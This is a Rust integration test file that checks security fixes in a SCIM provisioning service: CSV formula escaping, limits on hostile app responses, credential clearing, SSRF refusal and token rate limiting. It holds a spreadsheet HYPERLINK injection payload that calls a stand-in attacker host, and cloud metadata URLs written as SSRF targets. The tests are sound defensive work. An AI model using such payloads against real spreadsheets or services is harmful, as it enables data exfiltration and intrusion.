//! Holes a security review found, each closed and checked here over real HTTP:
//! what roster writes out (CSV), and what it does with what an app answers.

mod common;

use roster_store::{AppId, LogAction, LogRecord, LogStatus, ObjectKind, RecordBatch};
use serde_json::{json, Value};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

fn ok(status: reqwest::StatusCode, body: &Value) {
    assert!(status.is_success(), "expected success, got {status}: {body}");
}

/// A log entry about `source_name`, written as a cycle would.
async fn log_entry_about(app: &common::TestApp, app_id: &str, source_name: &str) {
    let entry = LogRecord {
        id: uuid::Uuid::new_v4().to_string(),
        app_id: AppId::from_stored(app_id.to_string()),
        cycle_id: "cycle-1".into(),
        change_id: "change-1".into(),
        at: roster_store::now_ms(),
        object_kind: ObjectKind::User,
        source_id: "src-1".into(),
        source_name: Some(source_name.into()),
        target_id: Some("@target".into()),
        action: LogAction::Create,
        status: LogStatus::Success,
        steps: Vec::new(),
        modified: Vec::new(),
        error_code: None,
        error_message: Some("-1 rows".into()),
    };
    let batch = RecordBatch { logs: vec![entry], now: roster_store::now_ms(), ..RecordBatch::default() };
    app.store.record(&AppId::from_stored(app_id.to_string()), &batch).await.expect("log entry recorded");
}

async fn log_export_writes_no_live_formula(app: &common::TestApp) {
    let (s, created) = app.post("/apps", json!({"name": "Crm", "template": "scim"})).await;
    ok(s, &created);
    let id = created["id"].as_str().expect("app id");
    let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
    log_entry_about(app, id, formula).await;

    let csv = app
        .http
        .get(format!("{}/api/v1/apps/Crm/provisioning/logs?format=csv", app.base))
        .bearer_auth(&app.token)
        .send()
        .await
        .expect("csv export")
        .text()
        .await
        .expect("csv text");
    let row = csv.lines().nth(1).expect("one row after the header");
    assert!(row.contains("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\""), "{row}");
    assert!(row.contains(",'@target,"), "{row}");
    assert!(row.contains(",'-1 rows,"), "{row}");
    for cell in row.split(',') {
        assert!(
            !cell.trim_start_matches('"').starts_with(['=', '+', '-', '@', '\t', '\r']),
            "live cell {cell:?} in {row}"
        );
    }
}

on_both_backends!(
    log_export_writes_no_live_formula,
    nested_replaces_cannot_grow_an_expression_without_bound,
    guessing_api_tokens_is_slowed
);

/// A SCIM app that misbehaves as `behaviour` says, on 127.0.0.1; its base URL
/// and the count of the list pages (or bytes) it served.
async fn hostile_scim(behaviour: Hostile) -> (String, Arc<AtomicU64>) {
    let served = Arc::new(AtomicU64::new(0));
    let s = served.clone();
    let handler = move |uri: axum::http::Uri, method: axum::http::Method| {
        let served = s.clone();
        async move { behaviour.answer(&method, &uri, &served) }
    };
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind");
    let base = format!("http://{}/scim/v2", listener.local_addr().expect("addr"));
    tokio::spawn(async move { axum::serve(listener, axum::Router::new().fallback(handler)).await });
    (base, served)
}

#[derive(Clone, Copy)]
enum Hostile {
    /// Lists a thousand fresh users per page and claims a quadrillion in all;
    /// finds nobody by filter. Counts the largest `startIndex` asked.
    EndlessPaging,
    /// Finds nobody, and refuses every create with a 4 MB `detail`.
    HugeDetail,
    /// Answers every request with a body that does not end (256 MiB).
    HugeBody,
    /// Answers every request 404 with a long page of its own (an internal
    /// service a Test Connection was aimed at).
    Chatty,
}

fn scim_list(total: u64, resources: Vec<Value>) -> String {
    json!({"schemas": ["urn:ietf:params:scim:api:messages:2.0:ListResponse"], "totalResults": total,
        "itemsPerPage": resources.len(), "startIndex": 1, "Resources": resources})
    .to_string()
}

impl Hostile {
    fn answer(
        self,
        method: &axum::http::Method,
        uri: &axum::http::Uri,
        served: &AtomicU64,
    ) -> axum::response::Response {
        use axum::response::IntoResponse;
        let scim_json = [(axum::http::header::CONTENT_TYPE, "application/scim+json")];
        let query = uri.query().unwrap_or_default();
        match self {
            Hostile::HugeBody => {
                let chunk = axum::body::Bytes::from(vec![b' '; 64 << 10]);
                let served = Arc::new(AtomicU64::new(0));
                let stream = futures::stream::unfold(0u64, move |sent| {
                    let chunk = chunk.clone();
                    let served = served.clone();
                    async move {
                        served.fetch_add(1, Ordering::SeqCst);
                        (sent < 256 << 20).then(|| (Ok::<_, std::io::Error>(chunk.clone()), sent + chunk.len() as u64))
                    }
                });
                (scim_json, axum::body::Body::from_stream(stream)).into_response()
            }
            Hostile::Chatty => {
                let page = "internal-secret-line\n".repeat(10_000);
                (axum::http::StatusCode::NOT_FOUND, page).into_response()
            }
            _ if *method == axum::http::Method::GET && query.contains("filter=") => {
                (scim_json, scim_list(0, vec![])).into_response()
            }
            Hostile::EndlessPaging if *method == axum::http::Method::GET => {
                // Fresh users at every startIndex; the largest one asked is kept.
                let start: u64 = query
                    .split('&')
                    .find_map(|p| p.strip_prefix("startIndex="))
                    .and_then(|v| v.parse().ok())
                    .unwrap_or(1);
                served.fetch_max(start, Ordering::SeqCst);
                let users = (0..1000)
                    .map(|i| {
                        let n = start + i;
                        json!({"id": format!("u{n}"), "userName": format!("ghost{n}@example.com"), "active": true})
                    })
                    .collect();
                (scim_json, scim_list(1_000_000_000_000_000, users)).into_response()
            }
            Hostile::HugeDetail if *method == axum::http::Method::POST => {
                let detail = "x".repeat(4 << 20);
                let body = json!({"schemas": ["urn:ietf:params:scim:api:messages:2.0:Error"], "status": "400",
                    "detail": detail});
                (axum::http::StatusCode::BAD_REQUEST, scim_json, body.to_string()).into_response()
            }
            _ => (scim_json, scim_list(0, vec![])).into_response(),
        }
    }
}

/// An app `Crm` on `base`, in automatic mode, with one assigned user.
async fn app_on(app: &common::TestApp, base: &str, settings: Value) {
    ok(app.post("/apps", json!({"name": "Crm", "template": "scim"})).await.0, &Value::Null);
    let mut patch = json!({"tenantUrl": base, "secretToken": "t0k3n", "mode": "automatic"});
    if let (Some(p), Some(extra)) = (patch.as_object_mut(), settings.as_object()) {
        p.extend(extra.clone());
    }
    let (s, v) = app.patch("/apps/Crm/provisioning", patch).await;
    ok(s, &v);
    let (s, v) = app.post("/users", json!({"userName": "ann@corp.example", "displayName": "Ann"})).await;
    ok(s, &v);
    app.post("/apps/Crm/assignments", json!({"user": "ann@corp.example"})).await;
}

async fn endless_paging_ends_the_cycle_with_a_clear_error(app: &common::TestApp) {
    let (base, pages) = hostile_scim(Hostile::EndlessPaging).await;
    app_on(app, &base, json!({"maxListedObjects": 5000})).await;
    let (s, v) = app.post("/apps/Crm/provisioning/start", json!({})).await;
    ok(s, &v);
    let status = common::eventually(30, "the cycle ends with an error", || async {
        let (_, st) = app.get("/apps/Crm/provisioning/status").await;
        st["lastError"].is_string().then_some(st)
    })
    .await;
    let error = status["lastError"].as_str().unwrap_or_default();
    assert!(error.contains("listed more than 5000 Users"), "{status}");
    // Each cycle stops at the page that passes the bound (a second cycle may
    // have begun since): nothing past the sixth page is ever asked.
    let furthest = pages.load(Ordering::SeqCst);
    assert!(furthest <= 5001, "roster asked for startIndex {furthest}, past its bound of 5000 users");
}

async fn a_huge_error_detail_is_cut_before_the_log_keeps_it(app: &common::TestApp) {
    let (base, _) = hostile_scim(Hostile::HugeDetail).await;
    app_on(app, &base, json!({})).await;
    app.post("/apps/Crm/provisioning/start", json!({})).await;
    let entry = common::eventually(30, "a failed create is logged", || async {
        let (_, logs) = app.get("/apps/Crm/provisioning/logs?user=ann@corp.example").await;
        logs["items"].as_array()?.iter().find(|e| e["errorMessage"].is_string()).cloned()
    })
    .await;
    let message = entry["errorMessage"].as_str().unwrap_or_default();
    assert!(message.len() <= 1200, "the log entry keeps {} bytes of the app's message", message.len());
    assert!(message.contains("(cut, 4194304 bytes in all)"), "{}", &message[message.len().saturating_sub(80)..]);
}

async fn a_huge_answer_fails_test_connection_clearly(app: &common::TestApp) {
    let (base, _) = hostile_scim(Hostile::HugeBody).await;
    app_on(app, &base, json!({"maxResponseBytes": 1048576})).await;
    let (_, t) = app.post("/apps/Crm/provisioning/test-connection", json!({})).await;
    assert_eq!(t["ok"], false, "{t}");
    let message = t["message"].as_str().unwrap_or_default();
    assert!(message.contains("longer than 1048576 bytes"), "{t}");
    assert!(message.len() < 1000, "Test Connection echoes a short message: {} bytes", message.len());
}

async fn nested_replaces_cannot_grow_an_expression_without_bound(app: &common::TestApp) {
    let x = format!("\"{}\"", "x".repeat(40));
    let expression = format!(r#"Replace(Replace(Replace("aaaaaaaaaa", "a", , , {x}), "x", , , {x}), "x", , , {x})"#);
    let request = json!({"expression": expression});
    assert!(request.to_string().len() <= 512);
    let (s, v) = app.post("/expressions/evaluate", request).await;
    ok(s, &v);
    assert_eq!(v["ok"], false, "the 640,000-byte result is refused");
    let message = v["message"].as_str().unwrap_or_default();
    assert!(message.starts_with("Replace: the result is too large"), "{message}");
    let (_, small) = app.post("/expressions/evaluate", json!({"expression": r#"Replace("ab", "a", , , "x")"#})).await;
    assert_eq!(small["value"], "xb", "{small}");
}

/// A server that counts the requests carrying an Authorization header.
async fn credential_sink() -> (String, Arc<AtomicU64>) {
    let seen = Arc::new(AtomicU64::new(0));
    let s = seen.clone();
    let handler = move |headers: axum::http::HeaderMap| {
        let seen = s.clone();
        async move {
            if headers.contains_key(axum::http::header::AUTHORIZATION) {
                seen.fetch_add(1, Ordering::SeqCst);
            }
            (axum::http::StatusCode::OK, scim_list(0, vec![]))
        }
    };
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind");
    let base = format!("http://{}/scim/v2", listener.local_addr().expect("addr"));
    tokio::spawn(async move { axum::serve(listener, axum::Router::new().fallback(handler)).await });
    (base, seen)
}

async fn a_new_tenant_url_does_not_inherit_the_stored_token(app: &common::TestApp) {
    let (real, _) = credential_sink().await;
    let (attacker, received) = credential_sink().await;
    app_on(app, &real, json!({})).await;
    let (s, v) = app.patch("/apps/Crm/provisioning", json!({"tenantUrl": attacker})).await;
    ok(s, &v);
    assert_eq!(v["clearedCredentials"], json!(["secretToken"]), "{v}");
    assert_eq!(v["secretTokenSet"], false, "{v}");
    let (_, t) = app.post("/apps/Crm/provisioning/test-connection", json!({})).await;
    assert_eq!(t["ok"], false, "{t}");
    assert_eq!(received.load(Ordering::SeqCst), 0, "the stored token never reached the new URL");
    // Given again in the same change, the token stays.
    let (_, v) = app.patch("/apps/Crm/provisioning", json!({"tenantUrl": real, "secretToken": "t0k3n"})).await;
    assert_eq!(v["secretTokenSet"], true, "{v}");
    assert!(v.get("clearedCredentials").is_none(), "{v}");
}

async fn plain_http_is_refused_off_loopback_unless_allowed(app: &common::TestApp) {
    ok(app.post("/apps", json!({"name": "Crm", "template": "scim"})).await.0, &Value::Null);
    let (s, v) = app.patch("/apps/Crm/provisioning", json!({"tenantUrl": "https://crm.example.com/scim"})).await;
    ok(s, &v);
    let (s, v) = app.patch("/apps/Crm/provisioning", json!({"tenantUrl": "http://crm.example.com/scim"})).await;
    assert_eq!(s, reqwest::StatusCode::BAD_REQUEST, "{v}");
    assert!(v["error"]["message"].as_str().unwrap_or_default().contains("plain http"), "{v}");
    let (s, v) = app
        .patch("/apps/Crm/provisioning", json!({"tenantUrl": "http://crm.example.com/scim", "allowInsecureHttp": true}))
        .await;
    ok(s, &v);
}

async fn metadata_and_private_addresses_are_refused_as_app_urls(app: &common::TestApp) {
    ok(app.post("/apps", json!({"name": "Crm", "template": "scim"})).await.0, &Value::Null);
    for url in [
        "http://169.254.169.254/latest/meta-data/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://[fd00:ec2::254]/",
        "http://100.100.100.200/",
    ] {
        let patch = json!({"tenantUrl": url, "allowInsecureHttp": true, "allowPrivateNetworks": true});
        let (s, v) = app.patch("/apps/Crm/provisioning", patch).await;
        assert_eq!(s, reqwest::StatusCode::BAD_REQUEST, "{url}: {v}");
        assert!(v["error"]["message"].as_str().unwrap_or_default().contains("refused"), "{v}");
    }
    let (s, v) = app.patch("/apps/Crm/provisioning", json!({"tenantUrl": "https://10.1.2.3/scim"})).await;
    assert_eq!(s, reqwest::StatusCode::BAD_REQUEST, "a private address needs the app's opt-in: {v}");
    let (s, v) = app
        .patch("/apps/Crm/provisioning", json!({"tenantUrl": "https://10.1.2.3/scim", "allowPrivateNetworks": true}))
        .await;
    ok(s, &v);
}

async fn test_connection_repeats_only_a_short_part_of_the_answer(app: &common::TestApp) {
    let (base, _) = hostile_scim(Hostile::Chatty).await;
    app_on(app, &base, json!({})).await;
    let (_, t) = app.post("/apps/Crm/provisioning/test-connection", json!({})).await;
    assert_eq!(t["ok"], false, "{t}");
    let message = t["message"].as_str().unwrap_or_default();
    assert!(message.chars().count() <= 410, "Test Connection repeats {} characters", message.chars().count());
    assert!(!message.contains('\n'), "{message}");
}

async fn guessing_api_tokens_is_slowed(app: &common::TestApp) {
    let users = format!("{}/api/v1/users", app.base);
    for i in 0..5 {
        let r = app.http.get(&users).bearer_auth(format!("rst_guess{i}")).send().await.expect("send");
        assert_eq!(r.status(), reqwest::StatusCode::UNAUTHORIZED);
    }
    let r = app.http.get(&users).bearer_auth(&app.token).send().await.expect("send");
    assert_eq!(r.status(), reqwest::StatusCode::TOO_MANY_REQUESTS, "the sixth attempt waits, the right token included");
    let retry = r.headers().get(reqwest::header::RETRY_AFTER).and_then(|v| v.to_str().ok()).unwrap_or_default();
    assert!(retry.parse::<u64>().is_ok_and(|s| s >= 1), "Retry-After: {retry:?}");
}

mod hostile_apps {
    use super::*;
    on_both_backends!(
        endless_paging_ends_the_cycle_with_a_clear_error,
        a_huge_error_detail_is_cut_before_the_log_keeps_it,
        a_huge_answer_fails_test_connection_clearly,
        a_new_tenant_url_does_not_inherit_the_stored_token,
        plain_http_is_refused_off_loopback_unless_allowed,
        metadata_and_private_addresses_are_refused_as_app_urls,
        test_connection_repeats_only_a_short_part_of_the_answer,
    );
}
